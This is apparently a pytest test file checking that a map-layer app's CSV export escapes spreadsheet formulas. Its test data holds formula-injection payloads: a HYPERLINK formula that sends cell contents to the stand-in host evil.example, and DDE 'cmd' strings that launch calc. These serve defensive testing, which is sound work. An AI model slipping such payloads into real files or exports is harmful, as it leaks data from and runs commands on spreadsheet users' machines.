"""CSV exports cannot smuggle formulas into a spreadsheet: read the exported file back."""

import csv
import io

import pytest
from django.contrib.gis.geos import Point

from layers.features.csvcells import csv_cell
from layers.services import FeatureRecord, layer_replace_features
from tests.factories import LayerFactory

pytestmark = pytest.mark.django_db

SCHEMA = [
    {"name": "ten", "type": "text"},
    {"name": "do_cao", "type": "real"},
]
# (what a source held, what the CSV must say)
TEXTS = [
    (
        '=HYPERLINK("http://evil.example/?x="&A1,"Xem")',
        '\'=HYPERLINK("http://evil.example/?x="&A1,"Xem")',
    ),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-5", "'-5"),  # text in a text field stays text, so it is quoted too
    ("Chùa Thiên Mụ", "Chùa Thiên Mụ"),
    ("1+1=2", "1+1=2"),
]


@pytest.fixture
def hostile_layer(category):
    layer = LayerFactory(
        slug="hostile", category=category, geometry_type="point", attribute_schema=SCHEMA
    )
    records = [
        FeatureRecord(geom=Point(107.5 + i / 100, 16.4, srid=4326), attributes={"ten": text})
        for i, (text, _) in enumerate(TEXTS)
    ]
    records += [
        # Numbers stay numbers: a JSON number, and a number stored as text in a numeric field.
        FeatureRecord(geom=Point(107.6, 16.5, srid=4326), attributes={"ten": "a", "do_cao": -5}),
        FeatureRecord(
            geom=Point(107.61, 16.5, srid=4326), attributes={"ten": "b", "do_cao": "-7.25"}
        ),
        FeatureRecord(
            geom=Point(107.62, 16.5, srid=4326), attributes={"ten": "c", "do_cao": "-1+1"}
        ),
        # A key outside the schema becomes a column: its name is a header cell.
        FeatureRecord(
            geom=Point(107.63, 16.5, srid=4326), attributes={"ten": "d", "=cmd|'/C calc'!A0": -1}
        ),
    ]
    layer_replace_features(layer=layer, records=records)
    return layer


def exported_rows(api, layer) -> list[dict]:
    response = api().get(f"/api/v1/layers/{layer.slug}/export.csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_formulas_are_quoted_and_numbers_are_not(api, hostile_layer):
    rows = exported_rows(api, hostile_layer)
    names = [row["ten"] for row in rows]
    for _, expected in TEXTS:
        assert expected in names
    by_name = {row["ten"]: row for row in rows}
    assert by_name["a"]["do_cao"] == "-5"
    assert by_name["b"]["do_cao"] == "-7.25"
    assert by_name["c"]["do_cao"] == "'-1+1"
    assert "'=cmd|'/C calc'!A0" in rows[0]
    assert by_name["d"]["'=cmd|'/C calc'!A0"] == "-1"
    # No cell anywhere starts a formula.
    for row in rows:
        for key, value in row.items():
            assert not key.startswith(("=", "+", "-", "@", "\t", "\r"))
            if key != "do_cao" and not value.lstrip("-").replace(".", "").isdigit():
                assert not (value or " ").startswith(("=", "+", "@", "\t", "\r")), (key, value)


def test_csv_cell():
    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell("-5", numeric=True) == "-5"
    assert csv_cell("-5e3", numeric=True) == "-5e3"
    assert csv_cell("-5)", numeric=True) == "'-5)"
    assert csv_cell(None) is None
    assert csv_cell("Huế") == "Huế"
